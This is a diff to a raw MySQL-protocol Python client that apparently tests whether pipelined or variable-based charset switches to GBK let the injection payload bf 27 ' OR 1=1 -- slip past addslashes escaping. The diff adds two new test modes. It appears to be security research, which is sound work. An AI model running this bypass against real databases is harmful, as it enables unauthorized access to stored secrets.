@@ -1,6 +1,6 @@
 """A raw MySQL protocol client (no driver) that writes several commands
 before reading any answer.
-   python3 mysql_pipeline.py SOCKET pipeline|early|reset|attributes|tracked-call attack|legit MARKER
+   python3 mysql_pipeline.py SOCKET pipeline|early|reset|attributes|tracked-call|var-pipeline|var-eof attack|legit MARKER
 pipeline: after the login, `SET NAMES gbk` and the query as two COM_QUERY
 packets in one write; early: the handshake response (collation gbk) and the
 query in one write, before the login OK; reset: login with collation gbk,
@@ -10,7 +10,10 @@ CLIENT_QUERY_ATTRIBUTES, which MariaDB does not offer; tracked-call: login
 with collation gbk asking for session tracking and for OK packets in place
 of EOF (CLIENT_DEPRECATE_EOF), CALL p_latin1() (a procedure that runs SET
 NAMES latin1 and a SELECT, whose result's end reports latin1 from inside
-it), the query.  attack: bf 27 ' OR 1=1 --
+it), the query; var-pipeline: SET @v = 'gbk', then SET character_set_client
+= @v and the query in one write; var-eof: login asking for OK packets in
+place of EOF, SET @v = 'gbk', SET character_set_client = @v, the query,
+each answered before the next.  attack: bf 27 ' OR 1=1 --
 escaped by addslashes in a SELECT of the secrets; legit: text that reads
 alike in every character set.  Each answer is printed (ROW: / ERROR: /
 OK), then the connection is asked once more."""
@@ -46,7 +49,7 @@ def frame(payload, seq=0):
     return struct.pack("<I", len(payload))[:3] + bytes([seq]) + payload
 
 
-deprecate_eof = mode == "tracked-call"
+deprecate_eof = mode in ("tracked-call", "var-eof")
 
 
 def more_results(p):
@@ -100,6 +103,8 @@ if mode == "attributes":
     caps |= 1 << 27
 if mode == "tracked-call":
     caps |= 1 << 23 | 1 << 24  # CLIENT_SESSION_TRACK, CLIENT_DEPRECATE_EOF
+if mode == "var-eof":
+    caps |= 1 << 24
 collation = 28 if mode in ("early", "reset", "tracked-call") else 45  # gbk_chinese_ci / utf8mb4_general_ci
 response = struct.pack("<IIB23s", caps, 1 << 24, collation, b"\0" * 23) + \
     b"root\0" + b"\0" + b"qg\0" + b"mysql_native_password\0"
@@ -119,6 +124,16 @@ else:
     elif mode == "tracked-call":
         for command in (query(b"CALL p_latin1()"), query(sql)):
             s.sendall(command)
+            answer()
+    elif mode == "var-pipeline":
+        s.sendall(query(b"SET @v = 'gbk'"))
+        answer()
+        s.sendall(query(b"SET character_set_client = @v") + query(sql))
+        answer()
+        answer()
+    elif mode == "var-eof":
+        for command in (b"SET @v = 'gbk'", b"SET character_set_client = @v", sql):
+            s.sendall(query(command))
             answer()
     else:
         s.sendall(query(b"SET NAMES gbk") + query(sql))
